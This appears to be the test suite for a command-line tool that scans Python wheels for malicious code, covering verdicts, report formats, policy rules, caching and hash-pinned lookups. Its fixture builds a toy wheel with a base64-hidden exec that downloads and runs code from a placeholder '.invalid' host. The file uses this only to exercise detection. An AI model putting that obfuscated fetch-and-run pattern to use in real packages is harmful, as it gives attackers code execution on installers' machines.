/** `cordon inspect` and `cordon scan --inspect` as whole programs, on archives that the tests make. */
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { Readable } from 'node:stream'
import { type TestContext, test } from 'node:test'
import { pathToFileURL } from 'node:url'
import { startFeedServer, temporaryFolder, writeZip } from '@cordon/testkit'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { main } from '../src/index.ts'
import { type Ran, runMain } from './run-main.ts'

/** Harmless: nothing answers below `.invalid`. */
const deed = 'import os, urllib.request as u; os.system(u.urlopen("https://drop.example.invalid/x").read().decode())'
const hidden = Buffer.from(deed).toString('base64')
const bad = `import base64\nexec(base64.b64decode("${hidden}"))\n`
const plain = Array.from(
  { length: 40 },
  (_, index) => `def area${index}(width, height):\n    return width * height + ${index}\n`,
).join('\n')

function wheel(name: string, version: string, code: string): Buffer {
  const info = `${name}-${version}.dist-info`
  const files: readonly (readonly [string, string])[] = [
    [`${name}/__init__.py`, code],
    [`${info}/METADATA`, `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: A toy\n`],
    [`${info}/WHEEL`, 'Wheel-Version: 1.0\nGenerator: toy\nRoot-Is-Purelib: true\nTag: py3-none-any\n'],
  ]
  const record = files.map(([path, text]) => {
    const digest = createHash('sha256').update(text).digest('base64url')
    return `${path},sha256=${digest},${Buffer.byteLength(text)}`
  })
  const all = [...files, [`${info}/RECORD`, [...record, `${info}/RECORD,,`, ''].join('\n')] as const]
  return writeZip(all.map(([path, data]) => ({ name: path, data })))
}

const badName = 'shop-1.1-py3-none-any.whl'
const goodName = 'shop-1.0-py3-none-any.whl'
const badWheel = wheel('shop', '1.1', bad)
const goodWheel = wheel('shop', '1.0', plain)

interface Bench {
  readonly cwd: string
  readonly cache: string
  run(...words: readonly string[]): Promise<Ran>
}

function benchOf(t: TestContext): Bench {
  const cwd = temporaryFolder(t)
  const cache = temporaryFolder(t)
  writeFileSync(join(cwd, badName), badWheel)
  writeFileSync(join(cwd, goodName), goodWheel)
  const env = { PIP_CONFIG_FILE: '/dev/null', HOME: cwd, XDG_CACHE_HOME: join(cache, 'xdg') }
  return { cwd, cache, run: (...words) => runMain(words, { cwd, cache, env }) }
}

const schema = JSON.parse(
  readFileSync(
    join(import.meta.dirname, '..', '..', '..', 'docs', 'schemas', 'cordon.inspection-1.schema.json'),
    'utf8',
  ),
) as Readonly<Record<string, unknown>>
const validate = new Ajv2020({ allErrors: true, allowUnionTypes: true }).compile({
  ...schema,
  unevaluatedProperties: false,
})

interface Artifact {
  readonly file: string
  readonly verdict: string
  readonly decision: string
  readonly sha256: string | null
  readonly behaviours: readonly { readonly id: string; readonly stage: string }[]
  readonly comparison: { readonly appeared: readonly string[] } | null
}

function artifactsOf({ stdout }: Ran): readonly Artifact[] {
  const document: unknown = JSON.parse(stdout)
  assert.ok(validate(document), JSON.stringify(validate.errors))
  return (document as { readonly artifacts: readonly Artifact[] }).artifacts
}

test('a person is told when it runs, where, what, and that it is blocked', async (t) => {
  const { exit, stdout, stderr } = await benchOf(t).run('inspect', badName)
  assert.deepEqual([exit, stderr], [1, ''])
  assert.match(stdout, /MALICIOUS\n {2}Runs when imported: shop\/__init__\.py line 2 decodes code/)
  assert.match(stdout, /hidden by base64\.b64decode/)
  assert.match(stdout, /ATT&CK T\d{4}/)
  assert.match(stdout, /block by default:malicious-artifact/)
  assert.match(stdout, /BLOCKED: 1 artifact: 1 malicious \(exit 1: the policy forbids it\)\n$/)
})

test('JSON is what its schema says, one artifact a line, in the order of the targets', async (t) => {
  const ran = await benchOf(t).run('inspect', badName, goodName, '--format', 'json')
  const [first, second] = artifactsOf(ran)
  assert.deepEqual(
    [first?.verdict, first?.decision, second?.verdict, second?.decision],
    ['malicious', 'block', 'clean', 'allow'],
  )
  assert.equal(first?.sha256, createHash('sha256').update(badWheel).digest('hex'))
  assert.ok(first?.behaviours.some(({ id, stage }) => id === 'source/exec-of-decoded' && stage === 'import'))
  assert.equal(ran.stdout.split('\n').filter((line) => line.startsWith('    {"file"')).length, 2)
})

test('every format of a scan is there, and several are written in one run', async (t) => {
  const bench = benchOf(t)
  const formats = ['github', 'gitlab', 'jsonl', 'junit', 'markdown', 'sarif', 'table']
  const reports = formats.flatMap((id) => ['--report', `${id}=out/report.${id}`])
  const ran = await bench.run('inspect', badName, goodName, '--format', 'json', ...reports)
  assert.equal(ran.exit, 1, ran.stderr)
  assert.deepEqual(
    readdirSync(join(bench.cwd, 'out')).sort(),
    formats.map((id) => `report.${id}`),
  )
  const read = (id: string): string => readFileSync(join(bench.cwd, 'out', `report.${id}`), 'utf8')
  for (const id of ['github', 'jsonl', 'junit', 'sarif', 'table']) assert.match(read(id), /source\/exec-of-decoded/, id)
  for (const id of ['gitlab', 'markdown']) assert.match(read(id), /shop/, id)
  const sarif = JSON.parse(read('sarif')) as { runs: { results: { locations: unknown }[] }[] }
  assert.match(JSON.stringify(sarif.runs[0]?.results[0]?.locations), /shop-1\.1-py3-none-any\.whl\/shop\/__init__\.py/)
  assert.equal(read('jsonl').trim().split('\n').length, 3, 'an artifact a line, then the summary')
})

test('the policy decides: flags, rules, and exceptions by digest with a reason and a date', async (t) => {
  const bench = benchOf(t)
  assert.equal((await bench.run('inspect', badName, '--warn-only')).exit, 0)
  const digest = createHash('sha256').update(badWheel).digest('hex')
  const exception = (sha256: string): string =>
    `[[policy.exceptions]]\nname = "known"\nsha256 = "${sha256}"\ncheck = "source/*"\nreason = "a toy"\nexpires = 2027-01-31\n`
  writeFileSync(join(bench.cwd, 'cordon.toml'), exception(digest))
  assert.equal((await bench.run('inspect', badName)).exit, 0)
  writeFileSync(join(bench.cwd, 'cordon.toml'), exception('ab'.repeat(32)))
  const other = await bench.run('inspect', badName)
  assert.equal(other.exit, 1)
  assert.match(other.stdout, /covers nothing that was found/)
  const typo = '[[policy.rules]]\nname = "x"\naction = "deny"\ncheck = "source/exec-of-decodd"\n'
  writeFileSync(join(bench.cwd, 'cordon.toml'), typo)
  const refused = await bench.run('inspect', badName)
  assert.deepEqual([refused.exit, /exec-of-decoded/.test(refused.stderr)], [2, true])
})

test('a list goes on behind what is not there, which is incomplete, not clean', async (t) => {
  const bench = benchOf(t)
  writeFileSync(join(bench.cwd, 'list'), `# wheels\n${goodName}\n\nmissing-1.0-py3-none-any.whl\n`)
  const ran = await bench.run('inspect', '--files-from', 'list', '--format', 'json')
  assert.equal(ran.exit, 4)
  assert.deepEqual(
    artifactsOf(ran).map(({ verdict, decision }) => `${verdict} ${decision}`),
    ['clean allow', 'unanalysable incomplete'],
  )
  writeFileSync(join(bench.cwd, 'empty'), '\n')
  assert.equal((await bench.run('inspect', '--files-from', 'empty')).exit, 3)
  assert.equal((await bench.run('inspect', '--files-from', 'nowhere')).exit, 2)
})

test('a list from standard input', async (t) => {
  const bench = benchOf(t)
  const pieces: string[] = []
  const silent = { write: () => undefined, isTTY: false, columns: 80 }
  const exit = await main(['inspect', '--files-from', '-', '--format', 'jsonl'], {
    stdout: { ...silent, write: (more) => void pieces.push(more) },
    stderr: silent,
    stdin: Readable.from([`${badName}\n${goodName}\n`]),
    env: { CORDON_CACHE_DIR: bench.cache },
    cwd: bench.cwd,
    fetch,
    now: () => new Date('2026-11-21T12:00:00Z'),
  })
  assert.deepEqual([exit, pieces.join('').trim().split('\n').length], [1, 3])
})

test('a project of an index is fetched, verified and inspected; other bytes than promised are not', async (t) => {
  const bench = benchOf(t)
  const digest = createHash('sha256').update(badWheel).digest('hex')
  const page = (hash: string): string => `<a href="/f/${badName}#sha256=${hash}">x</a>`
  const html = { 'content-type': 'text/html' }
  const feed = await startFeedServer(t, [
    { path: '/simple/shop/', answer: { kind: 'status', status: 200, headers: html, body: page(digest) } },
    { path: '/simple/shop/', answer: { kind: 'status', status: 200, headers: html, body: page('ab'.repeat(32)) } },
    { path: '/simple/nothing/', answer: { kind: 'status', status: 404 } },
    { path: `/f/${badName}`, answer: { kind: 'file', bytes: badWheel }, times: 2 },
  ])
  const run = async (target: string): Promise<readonly string[]> => {
    const stream = { write: () => undefined, isTTY: false, columns: 80 }
    const pieces: string[] = []
    const exit = await main(['inspect', target, '--index-url', feed.url('/simple'), '--format', 'json'], {
      stdout: { ...stream, write: (more) => void pieces.push(more) },
      stderr: stream,
      env: { CORDON_CACHE_DIR: bench.cache },
      cwd: temporaryFolder(t),
      fetch,
      now: () => new Date('2026-11-21T12:00:00Z'),
    })
    return artifactsOf({ exit, stdout: pieces.join(''), stderr: '' }).map(
      ({ file, verdict }) => `${exit} ${file} ${verdict}`,
    )
  }
  assert.deepEqual(await run('shop'), [`1 ${badName} malicious`])
  assert.deepEqual(await run('shop==1.1'), [`4 ${badName} unanalysable`])
  assert.deepEqual(await run('nothing'), ['4 nothing unanalysable'])
})

test('--against names what is new', async (t) => {
  const ran = await benchOf(t).run('inspect', badName, '--against', goodName, '--format', 'json')
  const [found] = artifactsOf(ran)
  assert.ok(found?.comparison?.appeared.includes('source/exec-of-decoded'))
  const same = await benchOf(t).run('inspect', goodName, '--against', goodName)
  assert.match(same.stdout, /Does nothing that shop 1\.0 did not do\./)
})

test('results are kept by digest and rules, taken up again, and made anew when asked or damaged', async (t) => {
  const bench = benchOf(t)
  const sentences = async (...more: readonly string[]): Promise<number | undefined> => {
    const ran = await bench.run('inspect', goodName, '--format', 'json', ...more)
    return (artifactsOf(ran)[0] as unknown as { size: number }).size
  }
  const size = await sentences()
  const kept = join(bench.cache, 'inspections')
  const [version = ''] = readdirSync(kept)
  const [file = ''] = readdirSync(join(kept, version))
  const path = join(kept, version, file)
  const text = readFileSync(path, 'utf8')
  writeFileSync(path, text.replace(`"size":${size}`, '"size":7'))
  assert.equal(await sentences(), 7, 'the kept result is used')
  assert.equal(await sentences('--no-cache'), size)
  assert.equal(await sentences('--refresh'), size)
  assert.equal(await sentences(), size, 'a refreshed result is kept')
  writeFileSync(path, text.slice(0, 40))
  assert.equal(await sentences(), size, 'a damaged result is none')
})

test('a run that is killed goes on where it was', async (t) => {
  const bench = benchOf(t)
  const names = Array.from({ length: 12 }, (_, index) => `toy${index}-1.0-py3-none-any.whl`)
  for (const [index, name] of names.entries())
    writeFileSync(join(bench.cwd, name), wheel(`toy${index}`, '1.0', `X = ${index}\n${index % 4 === 0 ? bad : plain}`))
  writeFileSync(join(bench.cwd, 'list'), names.join('\n'))
  const bin = resolve(import.meta.dirname, '..', 'src', 'bin.ts')
  const words = [bin, 'inspect', '--files-from', 'list', '--format', 'jsonl', '--threads', '1']
  const env = { ...process.env, CORDON_CACHE_DIR: bench.cache }
  const child = spawn(process.execPath, words, { cwd: bench.cwd, env, stdio: ['ignore', 'pipe', 'inherit'] })
  const ended = once(child, 'exit')
  await once(child.stdout, 'data')
  child.kill('SIGKILL')
  await ended
  const kept = join(bench.cache, 'inspections')
  const [version = ''] = readdirSync(kept)
  assert.ok(readdirSync(join(kept, version)).length > 0, 'something was kept')
  const ran = await bench.run('inspect', '--files-from', 'list', '--format', 'json')
  assert.deepEqual(
    artifactsOf(ran).map(({ file, verdict }) => `${file} ${verdict}`),
    names.map((name, index) => `${name} ${index % 4 === 0 ? 'malicious' : 'clean'}`),
  )
})

test('scan --inspect reads what is pinned, on its line; what cannot be had is unknown', async (t) => {
  const bench = benchOf(t)
  const index = join(bench.cwd, 'index')
  mkdirSync(join(index, 'shop'), { recursive: true })
  const link = (name: string): string => `<a href="../../${name}">x</a>`
  writeFileSync(join(index, 'shop', 'index.html'), link(badName) + link(goodName))
  mkdirSync(join(bench.cwd, 'project'))
  const requirements = join(bench.cwd, 'project', 'requirements.txt')
  const scan = (): Promise<Ran> =>
    bench.run(
      'scan',
      'project',
      '--inspect',
      '--offline',
      '--index-url',
      pathToFileURL(index).href,
      '--format',
      'sarif',
    )
  writeFileSync(requirements, '# toys\nshop==1.1\n')
  const blocked = await scan()
  assert.equal(blocked.exit, 1, blocked.stderr)
  const { runs } = JSON.parse(blocked.stdout) as {
    runs: { results: { ruleId: string; locations: { physicalLocation: unknown }[] }[] }[]
  }
  const found = runs[0]?.results.find(({ ruleId }) => ruleId.includes('exec-of-decoded'))
  assert.match(JSON.stringify(found?.locations), /requirements\.txt.*"startLine":2/)
  writeFileSync(requirements, 'shop==1.0\n')
  const clean = await scan()
  assert.doesNotMatch(clean.stdout, /exec-of-decoded|NOT_REACHED/)
  writeFileSync(requirements, 'shop==9.9\n')
  const missing = await scan()
  assert.equal(missing.exit, 4)
  assert.match(missing.stdout, /NOT_REACHED/)
})

test('what was inspected once is known by its digest, without the file and without a connection', async (t) => {
  const bench = benchOf(t)
  const digest = createHash('sha256').update(badWheel).digest('hex')
  const url = `https://files.example.invalid/${badName}#sha256=${digest}`
  writeFileSync(join(bench.cwd, 'requirements.txt'), `shop @ ${url}\n`)
  const scan = (): Promise<Ran> => bench.run('scan', 'requirements.txt', '--inspect', '--offline', '--format', 'json')
  const before = await scan()
  assert.match(before.stdout, /NOT_REACHED/)
  await bench.run('inspect', badName)
  const after = await scan()
  assert.doesNotMatch(after.stdout, /NOT_REACHED/)
  assert.deepEqual([after.exit, /source\/exec-of-decoded/.test(after.stdout)], [1, true])
})

test('what installers keep is read before anything is fetched, and only with the digest that is pinned', async (t) => {
  const digest = createHash('sha256').update(badWheel).digest('hex')
  const places = {
    'in a folder of links': ({ cwd }: Bench): string => {
      mkdirSync(join(cwd, 'links'))
      writeFileSync(join(cwd, 'links', badName), badWheel)
      return '--find-links links\n'
    },
    "in pip's wheels": ({ cache }: Bench): string => {
      const folder = join(cache, 'xdg/pip/wheels/0a/1b/2c/3d')
      mkdirSync(folder, { recursive: true })
      writeFileSync(join(folder, badName), badWheel)
      return ''
    },
    'unpacked by uv': ({ cache }: Bench): string => {
      const uv = join(cache, 'xdg/uv')
      const content = join(uv, 'archive-v0/Zq3_b-Yt0LkPmN4xWv9Rs/shop')
      mkdirSync(content, { recursive: true })
      writeFileSync(join(content, '__init__.py'), bad)
      mkdirSync(join(uv, 'wheels-v6/pypi/shop'), { recursive: true })
      const pointer = `\x94\xb5Zq3_b-Yt0LkPmN4xWv9Rs\x91\x92\xa6Sha256\xd9\x40${digest}\xb9${badName}\x00`
      writeFileSync(join(uv, 'wheels-v6/pypi/shop/1.1-py3-none-any.http'), Buffer.from(pointer, 'latin1'))
      return ''
    },
  }
  for (const [place, put] of Object.entries(places)) {
    const bench = benchOf(t)
    const option = put(bench)
    const scan = (pinned: string): Promise<Ran> => {
      writeFileSync(join(bench.cwd, 'requirements.txt'), `${option}shop==1.1 --hash=sha256:${pinned}\n`)
      return bench.run('scan', 'requirements.txt', '--inspect', '--offline', '--format', 'json')
    }
    const other = await scan('ab'.repeat(32))
    assert.match(other.stdout, /NOT_REACHED/, place)
    assert.doesNotMatch(other.stdout, /exec-of-decoded/, place)
    const found = await scan(digest)
    assert.match(found.stdout, /exec-of-decoded/, place)
    assert.equal(found.exit, 1, place)
  }
})

test('a person is told which code decides, and which version there is', async (t) => {
  const bench = benchOf(t)
  const { stdout } = await bench.run('inspect', badName)
  assert.match(stdout, /Without shop\/__init__\.py:2 it would be clean\./)
  const index = join(bench.cwd, 'index')
  mkdirSync(join(index, 'shop'), { recursive: true })
  writeFileSync(join(index, 'shop', 'index.html'), `<a href="../../${goodName}">x</a>`)
  const ask = (project: string): Promise<Ran> =>
    bench.run('inspect', project, '--offline', '--index-url', pathToFileURL(index).href)
  assert.match(
    (await ask('shop==9.9')).stdout,
    /there is no shop 9\.9;\s+file:\S+\s+has\s+1\.0;\s+check\s+the\s+version/,
  )
  assert.match(
    (await ask('shpo')).stdout,
    /no index that was asked has\s+files\s+of\s+shpo;\s+check\s+how\s+it\s+is\s+spelt/,
  )
})

test('options that cannot be meant are refused with what to write', async (t) => {
  const bench = benchOf(t)
  for (const words of [
    ['inspect', badName, '--threads', '0'],
    ['inspect', 'shop', '--index-url', 'index.example.invalid/simple'],
    ['inspect', 'shop', '--index-url', './simple'],
    ['inspect', badName, '--timeout', 'soon'],
    ['inspect', badName, '--report', 'sarif'],
    ['inspect', badName, '--report', 'json=a', '--report', 'sarif=a'],
    ['inspect', badName, '--against', '1.0'],
    ['inspect', '--environment', 'nowhere'],
  ]) {
    const { exit, stdout, stderr } = await bench.run(...words)
    assert.deepEqual([exit, stdout], [2, ''], words.join(' '))
    assert.match(stderr, /\[[A-Z_]+\]\n$/, words.join(' '))
  }
})

/** Counts and scores move with every training of the model; what is told about the code does not. */
function withoutFigures(text: string): string {
  return text.replace(/\d+ of \d+ popular packages? (?:do|does) this/g, 'N of M popular packages do this')
}

test('docs/inspect.md shows what is really printed', async (t) => {
  const bench = benchOf(t)
  cpSync(join(import.meta.dirname, 'support', 'shopkit-1.0'), join(bench.cwd, 'shopkit-1.0'), { recursive: true })
  const page = resolve(import.meta.dirname, '..', '..', '..', 'docs', 'inspect.md')
  const block = /<!-- output: inspect shopkit-1\.0 -->\n```\n([\s\S]*?)```\n/
  const ran = await runMain(['inspect', 'shopkit-1.0'], { cwd: bench.cwd, cache: bench.cache, columns: 80 })
  assert.equal(ran.exit, 1, ran.stderr)
  const text = readFileSync(page, 'utf8')
  if (process.env.UPDATE_GOLDEN === '1' && process.env.CI !== 'true')
    writeFileSync(
      page,
      text.replace(block, () => `<!-- output: inspect shopkit-1.0 -->\n\`\`\`\n${ran.stdout}\`\`\`\n`),
    )
  else
    assert.equal(
      withoutFigures(block.exec(text)?.[1] ?? ''),
      withoutFigures(ran.stdout),
      'UPDATE_GOLDEN=1 npm test -- packages/cli rewrites it',
    )
})

test('a terminal is shown how far it is, and the line is left clean', async (t) => {
  const bench = benchOf(t)
  const shown: string[] = []
  const stream = { write: () => undefined, isTTY: false, columns: 100 }
  const exit = await main(['inspect', badName, goodName], {
    stdout: stream,
    stderr: { ...stream, isTTY: true, write: (text) => void shown.push(text) },
    env: { CORDON_CACHE_DIR: bench.cache },
    cwd: bench.cwd,
    fetch,
    now: () => new Date('2026-11-21T12:00:00Z'),
  })
  assert.equal(exit, 1)
  assert.match(shown.join(''), /inspected \[#{12}-{12}\] 1 of 2: shop-1\.1-py3-none-any\.whl/)
  assert.match(shown.at(-1) ?? '', /^\r +\r$/)
})
